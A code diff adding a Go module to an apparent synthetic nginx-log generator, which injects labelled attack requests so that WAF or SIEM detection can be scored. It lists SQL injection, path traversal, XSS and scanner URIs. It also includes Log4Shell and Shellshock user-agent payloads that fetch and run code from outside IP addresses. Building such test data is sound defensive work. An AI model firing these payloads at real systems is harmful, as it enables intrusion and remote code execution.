@@ -0,0 +1,127 @@
+package main
+
+import (
+	"strings"
+	"time"
+)
+
+// attackKind is a family of malicious requests, each with the URIs and
+// user agents it is sent with and the statuses a protected site answers.
+type attackKind struct {
+	name       string
+	uris       []string
+	userAgents []string
+	statuses   *weighted[int]
+}
+
+// attackers are the few addresses attack traffic comes from, as scanners
+// sweep a site from a handful of hosts.
+var attackers = []string{"45.155.205.233", "185.220.101.34", "193.142.146.12", "89.248.165.52", "141.98.11.7"}
+
+// scannerAgents are the user agents of scanning tools; attack kinds that
+// are not tied to a tool mix them with an ordinary browser.
+var scannerAgents = []string{
+	"sqlmap/1.7.2#stable (https://sqlmap.org)",
+	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
+	"Mozilla/5.0 zgrab/0.x",
+	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+}
+
+func codeWeights(pairs ...int) *weighted[int] {
+	w := &weighted[int]{}
+	for i := 0; i+1 < len(pairs); i += 2 {
+		w.add(pairs[i], float64(pairs[i+1]))
+	}
+	return w
+}
+
+// attackKinds are drawn by weight. URIs are sent as scanners send them:
+// percent-encoded where a request line needs it and raw otherwise.
+var attackKinds = func() *weighted[attackKind] {
+	w := &weighted[attackKind]{}
+	w.add(attackKind{
+		name: "scan",
+		uris: []string{
+			"/wp-admin/", "/wp-login.php", "/xmlrpc.php", "/wp-content/plugins/wp-file-manager/readme.txt",
+			"/phpmyadmin/index.php", "/phpMyAdmin/", "/pma/", "/.env", "/.git/config", "/config.php.bak",
+			"/admin/", "/server-status", "/actuator/env", "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+		},
+		userAgents: scannerAgents[2:],
+		statuses:   codeWeights(404, 80, 403, 15, 301, 5),
+	}, 45)
+	w.add(attackKind{
+		name: "sqli",
+		uris: []string{
+			"/products?id=1%27%20OR%20%271%27%3D%271",
+			"/products?id=1+UNION+SELECT+username,password+FROM+users--",
+			"/search?q=%27%3B%20DROP%20TABLE%20users--",
+			"/item?id=1%20AND%20SLEEP(5)--",
+			"/login?user=admin%27--&pass=x",
+			"/api/v1/orders?sort=(CASE%20WHEN%201=1%20THEN%20id%20ELSE%20name%20END)",
+		},
+		userAgents: []string{scannerAgents[0], scannerAgents[5]},
+		statuses:   codeWeights(403, 50, 400, 25, 500, 15, 200, 10),
+	}, 25)
+	w.add(attackKind{
+		name: "path_traversal",
+		uris: []string{
+			"/../../etc/passwd",
+			"/static/..%2f..%2f..%2fetc%2fpasswd",
+			"/download?file=../../../../etc/passwd",
+			"/images/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
+			"/index.php?page=....//....//....//etc/passwd",
+		},
+		userAgents: scannerAgents[2:],
+		statuses:   codeWeights(400, 45, 403, 30, 404, 25),
+	}, 15)
+	w.add(attackKind{
+		name: "xss",
+		uris: []string{
+			"/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+			"/comment?text=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E",
+			"/?redirect=javascript:alert(1)",
+		},
+		userAgents: scannerAgents[5:],
+		statuses:   codeWeights(403, 60, 400, 20, 200, 20),
+	}, 10)
+	// Injection through headers: the payload is the user agent itself
+	w.add(attackKind{
+		name: "header_injection",
+		uris: []string{"/", "/login", "/cgi-bin/status"},
+		userAgents: []string{
+			`${jndi:ldap://45.155.205.233:1389/Basic/Command/Base64/d2dldCBodHRwOi8vNDUuMTU1LjIwNS4yMzMvYS5zaDtzaCBhLnNo}`,
+			`() { :; }; /bin/bash -c "wget http://193.142.146.12/bins/x86 -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x"`,
+			`Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://185.220.101.34/a}`,
+		},
+		statuses: codeWeights(404, 40, 403, 30, 200, 30),
+	}, 5)
+	return w
+}()
+
+// attack returns the client address, user agent, URI and status of an
+// injected malicious request, and the name of its attack kind.
+func (g *generator) attack() (ip, userAgent, uri string, status int, kind string) {
+	k := attackKinds.draw(g.rng)
+	return attackers[g.rng.Intn(len(attackers))],
+		k.userAgents[g.rng.Intn(len(k.userAgents))],
+		k.uris[g.rng.Intn(len(k.uris))],
+		k.statuses.draw(g.rng),
+		k.name
+}
+
+// markAttack records the attack kind of an entry in the ground truth, keyed
+// by request ID, so that a WAF or SIEM can be scored on what it flags.
+// Attacks are too frequent to announce to the incident webhook. The client
+// is the first X-Forwarded-For hop, since behind XFF_CHAIN_PERCENT proxies
+// remote_addr is the load balancer.
+func (g *generator) markAttack(t time.Time, e *logEntry, kind string) {
+	client, _, _ := strings.Cut(e.Nginx.XForwardFor, ", ")
+	g.events.note(t, "attack", map[string]interface{}{
+		"request_id": e.HTTP.RequestID,
+		"kind":       kind,
+		"client_ip":  client,
+		"uri":        e.HTTP.URI,
+	})
+}